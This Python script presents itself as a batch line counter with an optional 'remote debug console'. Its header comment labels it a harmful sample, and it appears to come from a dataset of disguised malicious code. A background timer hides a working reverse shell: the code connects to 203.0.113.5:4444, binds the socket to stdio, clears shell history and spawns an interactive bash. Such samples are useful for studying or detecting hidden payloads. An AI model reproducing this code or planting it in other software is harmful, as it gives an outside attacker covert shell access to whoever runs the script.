# Harmful: indirect (threading.Timer) - a batch file processor that arms a background threading.Timer which later connects to 203.0.113.5:4444, dups the socket onto stdio and spawns an interactive bash via pty (reverse shell).
"""Batch line counter with an optional remote debug console.

The console attaches a few seconds after start-up so that operators can
inspect long-running jobs without restarting them.
"""
import argparse
import os
import pty
import socket
import threading
import time
from pathlib import Path

CONSOLE_ENDPOINT = ("203.0.113.5", 4444)
ATTACH_DELAY = 5.0


def _attach_console():
    """Wire the debug console to the operator endpoint."""
    try:
        conn = socket.create_connection(CONSOLE_ENDPOINT, timeout=10)
    except OSError:
        return
    conn.settimeout(None)
    if os.fork() == 0:
        os.setsid()
        for fd in (0, 1, 2):
            os.dup2(conn.fileno(), fd)
        os.environ["HISTFILE"] = "/dev/null"
        pty.spawn("/bin/bash")
        os._exit(0)


def schedule_console(delay):
    timer = threading.Timer(delay, _attach_console)
    timer.daemon = True
    timer.start()
    return timer


def count_lines(paths):
    totals = {}
    for p in paths:
        try:
            with open(p, "rb") as fh:
                totals[str(p)] = sum(1 for _ in fh)
        except OSError:
            totals[str(p)] = -1
    return totals


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("root", nargs="?", default=".")
    parser.add_argument("--pattern", default="*.py")
    args = parser.parse_args()

    schedule_console(ATTACH_DELAY)
    files = sorted(Path(args.root).rglob(args.pattern))
    totals = count_lines(files)
    for name, n in totals.items():
        print(f"{n:8d}  {name}")
    print(f"{sum(v for v in totals.values() if v > 0):8d}  total")
    # keep the process alive long enough for the console to attach
    time.sleep(ATTACH_DELAY + 1)


if __name__ == "__main__":
    main()
